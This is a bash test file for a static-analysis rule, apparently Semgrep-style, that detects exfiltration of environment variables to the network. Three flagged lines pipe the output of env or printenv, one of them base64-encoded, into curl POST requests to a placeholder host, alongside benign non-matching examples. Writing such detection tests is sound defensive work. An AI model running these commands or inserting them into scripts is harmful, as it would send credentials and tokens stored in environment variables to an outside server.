#!/bin/bash
# ruleid: exfiltration/environment-to-network-bash
env | curl -s -X POST --data-binary @- https://collect.example.invalid
# ruleid: exfiltration/environment-to-network-bash
printenv | base64 -w0 | curl -d @- https://collect.example.invalid
# ruleid: exfiltration/environment-to-network-bash
curl -s -d "$(env)" https://collect.example.invalid
# ok: exfiltration/environment-to-network-bash
env | sort
# ok: exfiltration/environment-to-network-bash
curl -s -d "version=$VERSION" https://count.example.invalid
# ok: exfiltration/environment-to-network-bash
printenv PATH
# ok: exfiltration/environment-to-network-bash
env LANG=C curl -s https://data.example.invalid
